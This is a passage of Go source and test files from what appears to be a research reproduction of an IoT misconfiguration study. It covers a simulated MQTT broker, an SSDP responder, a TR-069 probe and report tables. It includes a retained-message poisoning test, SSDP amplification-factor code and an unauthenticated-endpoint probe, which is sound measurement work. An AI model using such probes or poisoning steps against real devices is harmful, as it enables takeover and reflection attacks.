	if err != nil || code != ConnAccepted {
		t.Fatalf("Connect = %v, %v", code, err)
	}
	if len(events) != 1 || events[0].Kind != EventConnect || events[0].Code != ConnAccepted {
		t.Fatalf("events = %+v", events)
	}
}

func TestBrokerAuthRequired(t *testing.T) {
	_, c, closeFn := startBroker(t, BrokerConfig{
		RequireAuth: true,
		Credentials: map[string]string{"iot": "s3cret"},
	})
	defer closeFn()
	code, err := c.Connect("probe", "", "")
	if err != ErrRejected || code != ConnNotAuthorized {
		t.Fatalf("anonymous: %v, %v", code, err)
	}
}

func TestBrokerAuthWrongPassword(t *testing.T) {
	_, c, closeFn := startBroker(t, BrokerConfig{
		RequireAuth: true,
		Credentials: map[string]string{"iot": "s3cret"},
	})
	defer closeFn()
	code, err := c.Connect("probe", "iot", "wrong")
	if err != ErrRejected || code != ConnBadCredentials {
		t.Fatalf("wrong pass: %v, %v", code, err)
	}
}

func TestBrokerAuthSuccess(t *testing.T) {
	_, c, closeFn := startBroker(t, BrokerConfig{
		RequireAuth: true,
		Credentials: map[string]string{"iot": "s3cret"},
	})
	defer closeFn()
	code, err := c.Connect("probe", "iot", "s3cret")
	if err != nil || code != ConnAccepted {
		t.Fatalf("auth: %v, %v", code, err)
	}
}

func TestBrokerRetainedDelivery(t *testing.T) {
	b, c, closeFn := startBroker(t, BrokerConfig{})
	defer closeFn()
	b.Retain("homeassistant/light/kitchen", []byte("on"))
	if _, err := c.Connect("probe", "", ""); err != nil {
		t.Fatal(err)
	}
	got, err := c.CollectRetained("#", 200*time.Millisecond, 100)
	if err != nil {
		t.Fatal(err)
	}
	if string(got["homeassistant/light/kitchen"]) != "on" {
		t.Fatalf("retained topics: %v", keysOf(got))
	}
	if _, ok := got["$SYS/broker/version"]; !ok {
		t.Fatal("$SYS topics not delivered for wildcard subscription")
	}
}

func TestBrokerSysAccessEvent(t *testing.T) {
	var events []Event
	_, c, closeFn := startBroker(t, BrokerConfig{
		OnEvent: func(ev Event) { events = append(events, ev) },
	})
	defer closeFn()
	if _, err := c.Connect("probe", "", ""); err != nil {
		t.Fatal(err)
	}
	if err := c.Subscribe("$SYS/#"); err != nil {
		t.Fatal(err)
	}
	var sawSys bool
	for _, ev := range events {
		if ev.Kind == EventSysAccess {
			sawSys = true
		}
	}
	if !sawSys {
		t.Fatalf("no EventSysAccess in %+v", events)
	}
}

func TestBrokerPoisoningChangesRetained(t *testing.T) {
	b, c, closeFn := startBroker(t, BrokerConfig{})
	defer closeFn()
	b.Retain("plant/valve", []byte("closed"))
	if _, err := c.Connect("attacker", "", ""); err != nil {
		t.Fatal(err)
	}
	if err := c.Publish("plant/valve", []byte("open"), true); err != nil {
		t.Fatal(err)
	}
	if err := c.Ping(); err != nil { // flush: broker processed the publish
		t.Fatal(err)
	}
	v, ok := b.RetainedValue("plant/valve")
	if !ok || string(v) != "open" {
		t.Fatalf("retained = %q, %v", v, ok)
	}
}

func TestBrokerFanOut(t *testing.T) {
	b := NewBroker(BrokerConfig{})
	mk := func(name string) (*Client, func()) {
		client, server := netsim.NewServiceConnPair(
			netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.9"), Port: 50001},
			netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.2"), Port: 1883},
			time.Now(),
		)
		go func() {
			defer server.Close()
			b.Serve(context.Background(), server)
		}()
		return NewClient(client, time.Second), func() { client.Close() }
	}
	sub, closeSub := mk("sub")
	defer closeSub()
	pub, closePub := mk("pub")
	defer closePub()

	if _, err := sub.Connect("sub", "", ""); err != nil {
		t.Fatal(err)
	}
	if err := sub.Subscribe("alerts/#"); err != nil {
		t.Fatal(err)
	}
	if _, err := pub.Connect("pub", "", ""); err != nil {
		t.Fatal(err)
	}
	if err := pub.Publish("alerts/fire", []byte("now"), false); err != nil {
		t.Fatal(err)
	}
	got, err := sub.CollectRetained("zzz/nothing", 300*time.Millisecond, 1)
	_ = err
	// CollectRetained also captures the live fan-out publish.
	if string(got["alerts/fire"]) != "now" {
		t.Fatalf("fan-out not delivered: %v", keysOf(got))
	}
}

func TestBrokerPublishFloodGuard(t *testing.T) {
	_, c, closeFn := startBroker(t, BrokerConfig{MaxPublishesPerConn: 5})
	defer closeFn()
	if _, err := c.Connect("flood", "", ""); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		_ = c.Publish("x", []byte("y"), false)
	}
	// Session must be torn down: ping fails.
	if err := c.Ping(); err == nil {
		t.Fatal("broker did not close flooding session")
	}
}

func TestBrokerRejectsNonConnectFirst(t *testing.T) {
	_, c, closeFn := startBroker(t, BrokerConfig{})
	defer closeFn()
	if err := c.Ping(); err == nil {
		t.Fatal("broker answered PINGREQ before CONNECT")
	}
}

func keysOf(m map[string][]byte) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

func BenchmarkPacketEncodePublish(b *testing.B) {
	p := &Packet{Type: PUBLISH, Topic: "sensors/temperature/living-room", Payload: []byte("21.53")}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = p.Encode()
	}
}

func BenchmarkPacketDecodePublish(b *testing.B) {
	raw := (&Packet{Type: PUBLISH, Topic: "sensors/temperature/living-room", Payload: []byte("21.53")}).Encode()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := ReadPacket(bytes.NewReader(raw)); err != nil {
			b.Fatal(err)
		}
	}
}
