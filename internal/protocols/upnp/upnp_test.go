package upnp

import (
	"strings"
	"testing"
	"testing/quick"

	"openhire/internal/netsim"
)

var avtech = Device{
	Server:       "Linux/2.x UPnP/1.0 Avtech/1.0",
	UUID:         "5a34308c-1a2c-4546-ac5d-7663dd01dca1",
	FriendlyName: "AVTECH AVN801 Network Camera",
	ModelName:    "AVN801",
	Manufacturer: "AVTECH",
	DeviceType:   "urn:schemas-upnp-org:device:Basic:1",
	Location:     "http://192.168.0.1:16537/rootDesc.xml",
}

func TestBuildAndParseMSearch(t *testing.T) {
	raw := BuildMSearch("upnp:rootdevice")
	m, err := ParseMSearch(raw)
	if err != nil {
		t.Fatal(err)
	}
	if m.ST != "upnp:rootdevice" || m.Man != "ssdp:discover" || m.MX != 1 {
		t.Fatalf("parsed %+v", m)
	}
}

func TestParseMSearchDefaultsToAll(t *testing.T) {
	m, err := ParseMSearch(BuildMSearch(""))
	if err != nil {
		t.Fatal(err)
	}
	if m.ST != "ssdp:all" {
		t.Fatalf("ST = %q", m.ST)
	}
}

func TestParseMSearchRejectsGarbage(t *testing.T) {
	for _, raw := range []string{
		"",
		"GET / HTTP/1.1\r\n\r\n",
		"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n",           // no MAN
		"M-SEARCH * HTTP/1.1\r\nMAN: \"ssdp:discover\"\r\n\r\n", // no ST
		"NOTIFY * HTTP/1.1\r\nMAN: \"ssdp:discover\"\r\nST: a\r\n\r\n",
	} {
		if _, err := ParseMSearch([]byte(raw)); err == nil {
			t.Errorf("parsed %q", raw)
		}
	}
}

func TestParseMSearchFuzzNoPanic(t *testing.T) {
	if err := quick.Check(func(raw []byte) bool {
		_, _ = ParseMSearch(raw)
		return true
	}, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}

func TestSSDPResponseShape(t *testing.T) {
	raw := avtech.SSDPResponse("upnp:rootdevice")
	h, ok := ResponseHeaders(raw)
	if !ok {
		t.Fatal("response not parsed")
	}
	if h["SERVER"] != avtech.Server {
		t.Fatalf("SERVER = %q", h["SERVER"])
	}
	if !strings.Contains(h["USN"], "uuid:"+avtech.UUID) {
		t.Fatalf("USN = %q", h["USN"])
	}
	if !strings.Contains(h["USN"], "::upnp:rootdevice") {
		t.Fatalf("USN missing ST suffix: %q", h["USN"])
	}
	if h["LOCATION"] != avtech.Location {
		t.Fatalf("LOCATION = %q", h["LOCATION"])
	}
}

func TestDescriptionXML(t *testing.T) {
	xml := avtech.DescriptionXML()
	for _, want := range []string{
		"<friendlyName>AVTECH AVN801 Network Camera</friendlyName>",
		"<modelName>AVN801</modelName>",
		"<UDN>uuid:" + avtech.UUID + "</UDN>",
	} {
		if !strings.Contains(xml, want) {
			t.Errorf("description missing %q", want)
		}
	}
}

func TestDescriptionXMLEscapes(t *testing.T) {
	d := Device{FriendlyName: `Cam <1> & "2"`}
	xml := d.DescriptionXML()
	if strings.Contains(xml, "<1>") {
		t.Fatal("XML not escaped")
	}
	if !strings.Contains(xml, "Cam &lt;1&gt; &amp; &quot;2&quot;") {
		t.Fatalf("escaped form missing: %s", xml)
	}
}

var probeFrom = netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.60"), Port: 41000}

func TestResponderAnswersInternet(t *testing.T) {
	var events []RequestEvent
	r := NewResponder(ResponderConfig{
		Device: avtech, AnswerInternet: true,
		OnEvent: func(ev RequestEvent) { events = append(events, ev) },
	})
	resp := r.HandleDatagram(probeFrom, BuildMSearch("ssdp:all"))
	if resp == nil {
		t.Fatal("no response")
	}
	if _, ok := ResponseHeaders(resp); !ok {
		t.Fatal("unparseable response")
	}
	if len(events) != 1 || !events[0].Valid || events[0].ResponseBytes != len(resp) {
		t.Fatalf("events %+v", events)
	}
}

func TestResponderSilentWhenConfigured(t *testing.T) {
	var events []RequestEvent
	r := NewResponder(ResponderConfig{
		Device: avtech, AnswerInternet: false,
		OnEvent: func(ev RequestEvent) { events = append(events, ev) },
	})
	if resp := r.HandleDatagram(probeFrom, BuildMSearch("ssdp:all")); resp != nil {
		t.Fatal("configured device answered WAN probe")
	}
	// The probe is still observed (for honeypot logging) even if unanswered.
	if len(events) != 1 || !events[0].Valid || events[0].ResponseBytes != 0 {
		t.Fatalf("events %+v", events)
	}
}

func TestResponderDropsGarbage(t *testing.T) {
	r := NewResponder(ResponderConfig{Device: avtech, AnswerInternet: true})
	if resp := r.HandleDatagram(probeFrom, []byte("NOT SSDP")); resp != nil {
		t.Fatal("garbage answered")
	}
}

func TestAmplificationAboveOne(t *testing.T) {
	r := NewResponder(ResponderConfig{Device: avtech, AnswerInternet: true})
	if f := r.AmplificationFactor(); f <= 1.0 {
		t.Fatalf("amplification %f", f)
	}
}

func BenchmarkSSDPRoundTrip(b *testing.B) {
	r := NewResponder(ResponderConfig{Device: avtech, AnswerInternet: true})
	probe := BuildMSearch("ssdp:all")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if r.HandleDatagram(probeFrom, probe) == nil {
			b.Fatal("no response")
		}
	}
}
