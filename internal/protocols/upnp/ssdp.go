// Package upnp implements SSDP (Simple Service Discovery Protocol), the
// UDP discovery layer of UPnP, plus device-description rendering.
//
// SSDP listens on UDP 1900. The paper probes it with an "ssdp:discover"
// M-SEARCH (Section 3.1.1); a device that answers an Internet-side discover
// both discloses its model (Table 11's UPnP rows) and acts as a DDoS
// reflector — the largest misconfiguration class in Table 5 (998,129
// devices).
package upnp

import (
	"fmt"
	"sort"
	"strings"
)

// SSDPPort is the standard SSDP port.
const SSDPPort uint16 = 1900

// MSearch is a parsed M-SEARCH request.
type MSearch struct {
	// ST is the search target ("ssdp:all", "upnp:rootdevice", a device URN).
	ST string
	// MX is the response delay bound in seconds.
	MX int
	// Man must be `"ssdp:discover"` for a valid search.
	Man string
}

// BuildMSearch renders an M-SEARCH datagram for the search target.
func BuildMSearch(st string) []byte {
	if st == "" {
		st = "ssdp:all"
	}
	return []byte("M-SEARCH * HTTP/1.1\r\n" +
		"HOST: 239.255.255.250:1900\r\n" +
		`MAN: "ssdp:discover"` + "\r\n" +
		"MX: 1\r\n" +
		"ST: " + st + "\r\n\r\n")
}

// ParseMSearch parses an M-SEARCH datagram. It returns an error for
// anything that is not a well-formed discover request.
func ParseMSearch(raw []byte) (*MSearch, error) {
	text := string(raw)
	lines := strings.Split(text, "\r\n")
	if len(lines) == 0 || !strings.HasPrefix(lines[0], "M-SEARCH") {
		return nil, fmt.Errorf("upnp: not an M-SEARCH")
	}
	m := &MSearch{MX: 1}
	for _, line := range lines[1:] {
		colon := strings.IndexByte(line, ':')
		if colon < 0 {
			continue
		}
		key := strings.ToUpper(strings.TrimSpace(line[:colon]))
		val := strings.TrimSpace(line[colon+1:])
		switch key {
		case "ST":
			m.ST = val
		case "MAN":
			m.Man = strings.Trim(val, `"`)
		case "MX":
			_, _ = fmt.Sscanf(val, "%d", &m.MX)
		}
	}
	if m.Man != "ssdp:discover" {
		return nil, fmt.Errorf("upnp: missing ssdp:discover MAN header")
	}
	if m.ST == "" {
		return nil, fmt.Errorf("upnp: missing ST header")
	}
	return m, nil
}

// Device describes a UPnP device identity; the fields mirror what appears
// in SSDP response headers and the rootDesc.xml document.
type Device struct {
	// Server is the SERVER header ("Linux/2.x UPnP/1.0 Avtech/1.0").
	Server string
	// UUID identifies the device ("5a34308c-1a2c-4546-ac5d-7663dd01dca1").
	UUID string
	// FriendlyName as exposed in the description document.
	FriendlyName string
	// ModelName as exposed in the description document.
	ModelName string
	// Manufacturer as exposed in the description document.
	Manufacturer string
	// DeviceType URN ("urn:schemas-upnp-org:device:InternetGatewayDevice:1").
	DeviceType string
	// Location is the URL of the description document, typically an
	// internal address leak ("http://192.168.0.1:16537/rootDesc.xml").
	Location string
}

// SSDPResponse renders the unicast response to an M-SEARCH, matching the
// banner shape in Table 3.
func (d *Device) SSDPResponse(st string) []byte {
	usn := "uuid:" + d.UUID
	if st == "ssdp:all" || st == "" {
		st = "upnp:rootdevice"
	}
	if st != usn {
		usn += "::" + st
	}
	return []byte("HTTP/1.1 200 OK\r\n" +
		"CACHE-CONTROL: max-age=120\r\n" +
		"ST: " + st + "\r\n" +
		"USN: " + usn + "\r\n" +
		"EXT:\r\n" +
		"SERVER: " + d.Server + "\r\n" +
		"LOCATION: " + d.Location + "\r\n\r\n")
}

// DescriptionXML renders the rootDesc.xml document with the identity fields
// device-type tagging matches on ("Friendly Name:", "Model Name:").
func (d *Device) DescriptionXML() string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?>` + "\n")
	b.WriteString(`<root xmlns="urn:schemas-upnp-org:device-1-0">` + "\n")
	b.WriteString(" <specVersion><major>1</major><minor>0</minor></specVersion>\n")
	b.WriteString(" <device>\n")
	fields := []struct{ tag, val string }{
		{"deviceType", d.DeviceType},
		{"friendlyName", d.FriendlyName},
		{"manufacturer", d.Manufacturer},
		{"modelName", d.ModelName},
		{"UDN", "uuid:" + d.UUID},
	}
	for _, f := range fields {
		if f.val != "" {
			b.WriteString("  <" + f.tag + ">" + xmlEscape(f.val) + "</" + f.tag + ">\n")
		}
	}
	b.WriteString(" </device>\n</root>\n")
	return b.String()
}

var xmlEscaper = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")

func xmlEscape(s string) string {
	return xmlEscaper.Replace(s)
}

// ResponseHeaders parses an SSDP response into its headers (upper-cased
// keys). The scanner's response-based classification reads these.
func ResponseHeaders(raw []byte) (map[string]string, bool) {
	text := string(raw)
	lines := strings.Split(text, "\r\n")
	if len(lines) == 0 || !strings.HasPrefix(lines[0], "HTTP/1.1 200") {
		return nil, false
	}
	h := make(map[string]string)
	for _, line := range lines[1:] {
		colon := strings.IndexByte(line, ':')
		if colon < 0 {
			continue
		}
		h[strings.ToUpper(strings.TrimSpace(line[:colon]))] = strings.TrimSpace(line[colon+1:])
	}
	return h, true
}

// HeaderNames returns the sorted header keys, for stable test output.
func HeaderNames(h map[string]string) []string {
	out := make([]string, 0, len(h))
	for k := range h {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
