package upnp

import (
	"time"

	"openhire/internal/netsim"
)

// RequestEvent is surfaced for every SSDP datagram handled by a responder.
type RequestEvent struct {
	Time          time.Time
	From          netsim.IPv4
	ST            string
	Valid         bool // was a well-formed ssdp:discover
	ResponseBytes int
}

// ResponderConfig configures an SSDP responder.
type ResponderConfig struct {
	Device Device
	// AnswerInternet controls whether the responder answers discovery from
	// any source. Real devices should only answer their LAN; the
	// misconfigured population answers everything (the Table 5 UPnP class).
	AnswerInternet bool
	// OnEvent, when non-nil, receives request observations.
	OnEvent func(RequestEvent)
	// Clock stamps events; nil falls back to wall time.
	Clock netsim.Clock
}

// Responder answers SSDP M-SEARCH datagrams for one device. It implements
// netsim.DatagramHandler.
type Responder struct {
	cfg ResponderConfig
}

// NewResponder builds a responder.
func NewResponder(cfg ResponderConfig) *Responder {
	if cfg.Clock == nil {
		cfg.Clock = netsim.WallClock{}
	}
	return &Responder{cfg: cfg}
}

// Device returns the responder's device identity.
func (r *Responder) Device() Device { return r.cfg.Device }

// HandleDatagram implements netsim.DatagramHandler.
func (r *Responder) HandleDatagram(from netsim.Endpoint, payload []byte) []byte {
	ev := RequestEvent{Time: r.cfg.Clock.Now(), From: from.IP}
	defer func() {
		if r.cfg.OnEvent != nil {
			r.cfg.OnEvent(ev)
		}
	}()
	search, err := ParseMSearch(payload)
	if err != nil {
		return nil
	}
	ev.Valid = true
	ev.ST = search.ST
	if !r.cfg.AnswerInternet {
		return nil // correctly configured: silent to WAN probes
	}
	resp := r.cfg.Device.SSDPResponse(search.ST)
	ev.ResponseBytes = len(resp)
	return resp
}

// AmplificationFactor is the response/request size ratio for a standard
// discover probe, the figure of merit for SSDP reflection attacks.
func (r *Responder) AmplificationFactor() float64 {
	req := BuildMSearch("ssdp:all")
	resp := r.cfg.Device.SSDPResponse("ssdp:all")
	return float64(len(resp)) / float64(len(req))
}
