// Package tr069 implements the CPE side of TR-069 (CWMP) at scan depth:
// the HTTP connection-request endpoint CPEs expose on port 7547, whose
// authentication posture and Server banner a probe can read.
//
// This protocol is part of the paper's stated future work ("we plan to
// extend the scanning scope of protocols to include TR069, SMB, ...",
// Section 6), implemented here as an extension module. TR-069's connection
// request endpoint was the vector of the 2016 Deutsche Telekom outage; a
// CPE that answers the endpoint without digest authentication is
// misconfigured in exactly the paper's sense.
package tr069

import (
	"context"
	"net"
	"time"

	"openhire/internal/netsim"
	httpx "openhire/internal/protocols/http"
)

// Port is the CWMP connection-request port.
const Port uint16 = 7547

// Common CPE server banners, led by the RomPager builds infamous for the
// Misfortune Cookie vulnerability.
var ServerBanners = []string{
	"RomPager/4.07 UPnP/1.0",
	"RomPager/4.51 UPnP/1.0",
	"gSOAP/2.8",
	"MiniServ/1.580",
	"DNVRS-Webs",
}

// Event records one connection-request probe.
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	Path     string
	AuthSent bool
}

// Config describes a CPE's connection-request endpoint.
type Config struct {
	// ServerBanner is the HTTP Server header.
	ServerBanner string
	// RequireAuth makes the endpoint answer 401 with a digest challenge —
	// the correct configuration.
	RequireAuth bool
	// OnEvent receives probe observations.
	OnEvent func(Event)
}

// Server serves the connection-request endpoint. It implements
// netsim.StreamHandler by delegating to the HTTP substrate.
type Server struct {
	inner *httpx.Server
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.ServerBanner == "" {
		cfg.ServerBanner = ServerBanners[0]
	}
	handler := func(req *httpx.Request) *httpx.Response {
		if cfg.RequireAuth {
			return &httpx.Response{
				Status: 401,
				Headers: map[string]string{
					"WWW-Authenticate": `Digest realm="IGD", nonce="0000000000000000", qop="auth"`,
				},
			}
		}
		// Unauthenticated acceptance: the CPE will initiate a CWMP session
		// toward whatever ACS the caller claims — full device takeover
		// surface.
		return &httpx.Response{Status: 200, Body: []byte("OK")}
	}
	inner := httpx.NewServer(httpx.ServerConfig{
		ServerHeader: cfg.ServerBanner,
		Routes: map[string]httpx.Handler{
			"/":     handler,
			"/tr69": handler,
		},
		OnEvent: func(ev httpx.Event) {
			if cfg.OnEvent != nil {
				cfg.OnEvent(Event{Time: ev.Time, Remote: ev.Remote, Path: ev.Path})
			}
		},
	})
	return &Server{inner: inner}
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	s.inner.Serve(ctx, conn)
}

// ProbeResult is what a connection-request probe learns.
type ProbeResult struct {
	Status int
	Server string
	// Unauthenticated is the misconfiguration indicator: the endpoint
	// answered 200 without demanding digest auth.
	Unauthenticated bool
}

// Probe issues the connection request over an established connection.
func Probe(conn net.Conn, timeout time.Duration) (ProbeResult, error) {
	resp, err := httpx.Do(conn, "GET", "/", nil, timeout)
	if err != nil {
		return ProbeResult{}, err
	}
	return ProbeResult{
		Status:          resp.Status,
		Server:          resp.Headers["server"],
		Unauthenticated: resp.Status == 200,
	}, nil
}
