package tr069

import (
	"context"
	"testing"
	"time"

	"openhire/internal/netsim"
)

func startServer(t *testing.T, cfg Config) *netsim.ServiceConn {
	t.Helper()
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.99"), Port: 51000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.11"), Port: Port},
		time.Now(),
	)
	srv := NewServer(cfg)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return client
}

func TestProbeUnauthenticated(t *testing.T) {
	client := startServer(t, Config{RequireAuth: false, ServerBanner: "RomPager/4.07 UPnP/1.0"})
	pr, err := Probe(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !pr.Unauthenticated || pr.Status != 200 {
		t.Fatalf("result %+v", pr)
	}
	if pr.Server != "RomPager/4.07 UPnP/1.0" {
		t.Fatalf("server %q", pr.Server)
	}
}

func TestProbeAuthenticated(t *testing.T) {
	client := startServer(t, Config{RequireAuth: true})
	pr, err := Probe(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if pr.Unauthenticated || pr.Status != 401 {
		t.Fatalf("result %+v", pr)
	}
}

func TestEventsSurfaced(t *testing.T) {
	var events []Event
	client := startServer(t, Config{
		OnEvent: func(ev Event) { events = append(events, ev) },
	})
	if _, err := Probe(client, time.Second); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(time.Second)
	for time.Now().Before(deadline) {
		if len(events) > 0 {
			if events[0].Path != "/" {
				t.Fatalf("event %+v", events[0])
			}
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatal("no events")
}

func TestDefaultBanner(t *testing.T) {
	client := startServer(t, Config{})
	pr, err := Probe(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if pr.Server != ServerBanners[0] {
		t.Fatalf("default banner %q", pr.Server)
	}
}
