package report

import (
	"strings"
	"testing"
)

func TestTableRenderAligned(t *testing.T) {
	tbl := NewTable("Table X", "Protocol", "Count")
	tbl.AddRow("telnet", 7096465)
	tbl.AddRow("amqp", 34542)
	out := tbl.String()
	if !strings.Contains(out, "Table X") {
		t.Fatal("title missing")
	}
	if !strings.Contains(out, "7,096,465") {
		t.Fatalf("comma formatting missing:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 5 { // title, header, separator, 2 rows
		t.Fatalf("%d lines:\n%s", len(lines), out)
	}
	if tbl.RowCount() != 2 {
		t.Fatal("row count")
	}
}

func TestComma(t *testing.T) {
	cases := map[int]string{
		0: "0", 5: "5", 999: "999", 1000: "1,000", 1832893: "1,832,893",
		-4500: "-4,500",
	}
	for in, want := range cases {
		if got := Comma(in); got != want {
			t.Errorf("Comma(%d) = %q, want %q", in, got, want)
		}
	}
}

func TestPercent(t *testing.T) {
	if Percent(0.27) != "27.0%" {
		t.Fatal(Percent(0.27))
	}
}

func TestWriteCSV(t *testing.T) {
	var b strings.Builder
	err := WriteCSV(&b, []string{"day1", "day2"},
		Series{Name: "attacks", Values: []float64{10, 20}},
		Series{Name: "scans", Values: []float64{1, 2}},
	)
	if err != nil {
		t.Fatal(err)
	}
	want := "label,attacks,scans\nday1,10,1\nday2,20,2\n"
	if b.String() != want {
		t.Fatalf("csv:\n%s", b.String())
	}
}

func TestBar(t *testing.T) {
	if Bar(0.5, 10) != "#####....." {
		t.Fatal(Bar(0.5, 10))
	}
	if Bar(-1, 4) != "...." || Bar(2, 4) != "####" {
		t.Fatal("clamping broken")
	}
}

func TestSortedKeys(t *testing.T) {
	m := map[string]int{"b": 1, "a": 2, "c": 3}
	got := SortedKeys(m)
	if len(got) != 3 || got[0] != "a" || got[2] != "c" {
		t.Fatalf("keys %v", got)
	}
}

func TestRenderComparisons(t *testing.T) {
	var b strings.Builder
	err := RenderComparisons(&b, "exp", []Comparison{
		{Metric: "total", Paper: 1832893, Measured: 1790, Scaled: 1833000, Note: "/10 universe"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "1832893") || !strings.Contains(b.String(), "/10 universe") {
		t.Fatalf("output:\n%s", b.String())
	}
}
