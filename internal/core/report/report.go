// Package report renders the study's tables and figure data as aligned
// ASCII tables and CSV series, the output format of cmd/openhire-report and
// the benchmark harness.
package report

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// Table is an aligned text table under construction.
type Table struct {
	Title   string
	headers []string
	rows    [][]string
}

// NewTable starts a table with column headers.
func NewTable(title string, headers ...string) *Table {
	return &Table{Title: title, headers: headers}
}

// AddRow appends a row; values are stringified with %v.
func (t *Table) AddRow(values ...interface{}) {
	row := make([]string, len(values))
	for i, v := range values {
		switch val := v.(type) {
		case int:
			row[i] = Comma(val)
		case uint64:
			row[i] = Comma(int(val))
		case float64:
			row[i] = strconv.FormatFloat(val, 'f', 2, 64)
		default:
			row[i] = fmt.Sprintf("%v", v)
		}
	}
	t.rows = append(t.rows, row)
}

// RowCount returns the number of data rows.
func (t *Table) RowCount() int { return len(t.rows) }

// Render writes the aligned table.
func (t *Table) Render(w io.Writer) error {
	widths := make([]int, len(t.headers))
	for i, h := range t.headers {
		widths[i] = len(h)
	}
	for _, row := range t.rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	var b strings.Builder
	if t.Title != "" {
		b.WriteString(t.Title + "\n")
	}
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(pad(c, widths[i]))
		}
		b.WriteString("\n")
	}
	writeRow(t.headers)
	sep := make([]string, len(t.headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range t.rows {
		writeRow(row)
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// String renders to a string.
func (t *Table) String() string {
	var b strings.Builder
	_ = t.Render(&b)
	return b.String()
}

func pad(s string, width int) string {
	if len(s) >= width {
		return s
	}
	return s + strings.Repeat(" ", width-len(s))
}

// Comma formats an integer with thousands separators, as the paper's tables
// print counts.
func Comma(n int) string {
	neg := n < 0
	if neg {
		n = -n
	}
	s := strconv.Itoa(n)
	var b strings.Builder
	if neg {
		b.WriteByte('-')
	}
	for i, c := range s {
		if i > 0 && (len(s)-i)%3 == 0 {
			b.WriteByte(',')
		}
		b.WriteRune(c)
	}
	return b.String()
}

// Percent renders a fraction as "12.3%".
func Percent(f float64) string {
	return strconv.FormatFloat(f*100, 'f', 1, 64) + "%"
}

// Series is a named numeric sequence (figure data).
type Series struct {
	Name   string
	Labels []string
	Values []float64
}

// WriteCSV renders one or more series sharing labels as CSV.
func WriteCSV(w io.Writer, labels []string, series ...Series) error {
	var b strings.Builder
	b.WriteString("label")
	for _, s := range series {
		b.WriteString("," + s.Name)
	}
	b.WriteString("\n")
	for i, label := range labels {
		b.WriteString(label)
		for _, s := range series {
			b.WriteString(",")
			if i < len(s.Values) {
				b.WriteString(strconv.FormatFloat(s.Values[i], 'g', -1, 64))
			}
		}
		b.WriteString("\n")
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// Bar renders a proportional text bar for quick terminal figures.
func Bar(f float64, width int) string {
	if f < 0 {
		f = 0
	}
	if f > 1 {
		f = 1
	}
	n := int(f*float64(width) + 0.5)
	return strings.Repeat("#", n) + strings.Repeat(".", width-n)
}

// SortedKeys returns map keys sorted, for deterministic rendering.
func SortedKeys[K ~string, V any](m map[K]V) []K {
	out := make([]K, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Comparison is a paper-vs-measured line for EXPERIMENTS.md.
type Comparison struct {
	Metric   string
	Paper    float64
	Measured float64
	// Scaled is the measured value scaled to paper dimensions (0 = omit).
	Scaled float64
	Note   string
}

// RenderComparisons writes a paper-vs-measured table.
func RenderComparisons(w io.Writer, title string, comps []Comparison) error {
	t := NewTable(title, "metric", "paper", "measured", "scaled", "note")
	for _, c := range comps {
		scaled := ""
		if c.Scaled != 0 {
			scaled = strconv.FormatFloat(c.Scaled, 'f', 0, 64)
		}
		t.AddRow(c.Metric, strconv.FormatFloat(c.Paper, 'f', -1, 64),
			strconv.FormatFloat(c.Measured, 'f', -1, 64), scaled, c.Note)
	}
	return t.Render(w)
}
