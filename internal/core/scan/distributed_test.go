package scan

import (
	"context"
	"testing"

	"openhire/internal/netsim"
)

func TestDistributedEqualsSingleScanner(t *testing.T) {
	n, _, _ := buildTestWorld(t, 200)
	prefix := netsim.MustParsePrefix("50.0.0.0/18")

	// Single-scanner baseline.
	single := NewScanner(Config{Network: n, Source: 1, Prefix: prefix, Seed: 40, Workers: 64})
	baseline := make(map[netsim.IPv4]bool)
	gate := make(chan struct{}, 1)
	gate <- struct{}{}
	single.Run(context.Background(), MQTTModule{}, func(r *Result) {
		<-gate
		baseline[r.IP] = true
		gate <- struct{}{}
	})

	// Three-vantage distributed scan of the same prefix and seed.
	dist := RunDistributed(context.Background(), DistributedConfig{
		Network: n, Prefix: prefix, Seed: 40,
		Vantages: []Vantage{
			{Source: netsim.MustParseIPv4("130.226.0.1")},
			{Source: netsim.MustParseIPv4("198.51.100.1")},
			{Source: netsim.MustParseIPv4("192.0.2.1")},
		},
